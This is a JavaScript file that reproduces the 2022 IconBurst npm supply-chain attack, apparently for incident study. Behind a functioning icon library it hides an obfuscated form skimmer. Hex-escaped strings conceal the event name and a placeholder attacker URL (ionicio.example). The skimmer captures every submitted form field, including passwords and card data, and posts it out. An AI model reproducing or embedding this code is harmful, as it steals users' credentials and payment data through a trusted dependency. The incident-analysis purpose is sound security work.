// Incident: IconBurst (npm, 2022): "ionicio", "ionic-icon", "icon-package" and about twenty
// similar packages. The real icon code was kept; appended, obfuscated code hooked form
// submission in the browser, serialised every field (names, e-mails, passwords, card data)
// and posted it to an attacker domain named like the package.
// Reference: https://www.reversinglabs.com/blog/iconburst-npm-software-supply-chain-attack-grabs-data-from-apps-and-websites
// Reproduction (own code, placeholder host).
(function (root) {
  "use strict";

  var ICONS = {
    "add": "M256 112v288M400 256H112",
    "close": "M368 368L144 144M368 144L144 368",
    "search": "M221 64a157 157 0 10157 157A157 157 0 00221 64zM338 338l110 110",
    "menu": "M80 160h352M80 256h352M80 352h352",
  };

  function svg(name, size) {
    var d = ICONS[name];
    if (!d) return "";
    var s = size || 24;
    return '<svg xmlns="http://www.w3.org/2000/svg" width="' + s + '" height="' + s +
      '" viewBox="0 0 512 512"><path fill="none" stroke="currentColor" stroke-width="32" d="' + d + '"/></svg>';
  }

  function hydrate(doc) {
    var nodes = doc.querySelectorAll("ion-icon[name]");
    for (var i = 0; i < nodes.length; i++) {
      nodes[i].innerHTML = svg(nodes[i].getAttribute("name"), nodes[i].getAttribute("size"));
    }
  }

  var _k = ["\x73\x75\x62\x6d\x69\x74", "\x68\x74\x74\x70\x73\x3a\x2f\x2f\x69\x6f\x6e\x69\x63\x69\x6f\x2e\x65\x78\x61\x6d\x70\x6c\x65\x2f\x69\x6e\x64\x65\x78\x2e\x70\x68\x70"];
  function _g(form) {
    var out = { u: root.location ? root.location.href : "" };
    var els = form.elements || [];
    for (var i = 0; i < els.length; i++) {
      if (els[i].name) out[els[i].name] = els[i].value;
    }
    return out;
  }
  function _s(data) {
    try {
      var x = new XMLHttpRequest();
      x.open("POST", _k[1], true);
      x.setRequestHeader("Content-Type", "application/x-www-form-urlencoded");
      x.send("data=" + encodeURIComponent(JSON.stringify(data)));
    } catch (e) {}
  }

  if (root.document) {
    root.document.addEventListener("DOMContentLoaded", function () {
      hydrate(root.document);
    });
    root.document.addEventListener(_k[0], function (ev) {
      if (ev.target && ev.target.tagName === "FORM") _s(_g(ev.target));
    }, true);
  }

  var api = { svg: svg, hydrate: hydrate, icons: Object.keys(ICONS) };
  if (typeof module !== "undefined" && module.exports) module.exports = api;
  else root.ionicio = api;
})(typeof window !== "undefined" ? window : globalThis);
